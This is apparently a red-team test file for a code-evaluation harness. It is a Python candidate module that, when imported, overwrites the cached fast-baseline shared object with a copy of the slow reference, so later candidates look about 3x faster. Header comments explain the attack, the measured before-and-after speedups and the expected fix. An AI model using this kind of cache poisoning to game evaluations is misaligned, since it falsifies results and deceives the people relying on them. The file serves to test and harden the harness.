# Attack (poisoning the build cache for later evaluations): kjudge compiles every C++ party once
# and reuses $KJUDGE_CACHE/build/<xx>/<key>/candidate.so whenever it exists, without checking its
# bytes. A Python candidate's module is imported before the worker's sandbox, so it can write
# there. The cache root is three levels above the worker's HOME (its scratch directory,
# $KJUDGE_CACHE/scratch/<run>/candidate). This module finds softmax's cpu_fast baseline (the
# shared object whose kj_info says "family=baseline_fast;notes=3-pass vectorised softmax") and the
# reference (single-threaded, libm expf), and renames a copy of the reference over cpu_fast
# (rename: the baseline worker running now keeps its mapping of the old file). From the next
# evaluation on, every candidate is compared with a "cpu_fast" that is the reference, ~3x slower.
# The kernel itself is torch.softmax; this evaluation is judged honestly (its own cpu_fast worker
# was loaded before the swap).
# Pre-fix (b5c5f0e): this evaluation ok (--no-timing), and the swap succeeds.
# tests/redteam/python/py_cache_poison.sh (torch baselines off, --budget 2, 2-core VM): the honest
# tests/honest/cpu/softmax_poly_exp_simd.cpp is ok_not_faster, 0.49x [0.43, 0.51] (cpu_fast 701
# us) before, and ok_faster, 1.71x [1.68, 2.76] (cpu_fast 2126 us) after.
# Expected after the fix: the write is denied (the import runs in the sandbox), and the cache
# verifies each artifact's bytes at every use: this evaluation is ok (harmless), and later ones
# time the real cpu_fast.
import glob
import os
import shutil

import torch

_FAST = b"family=baseline_fast;notes=3-pass vectorised softmax"
_REFERENCE = b"family=reference;notes=float max-subtracted softmax"


def _poison():
    home = os.environ.get("HOME", "")
    cache = os.path.dirname(os.path.dirname(os.path.dirname(home)))  # <cache>/scratch/<run>/<label>
    fast = reference = None
    for so in glob.glob(os.path.join(cache, "build", "*", "*", "candidate.so")):
        try:
            with open(so, "rb") as f:
                data = f.read()
        except OSError:
            continue
        if _FAST in data:
            fast = so
        elif _REFERENCE in data:
            reference = so
    if fast is None or reference is None:
        return False
    try:
        tmp = fast + ".swap"
        shutil.copyfile(reference, tmp)
        os.replace(tmp, fast)
        return True
    except OSError:
        return False


_poisoned = _poison()


def kernel(x):
    return torch.softmax(x, dim=-1)
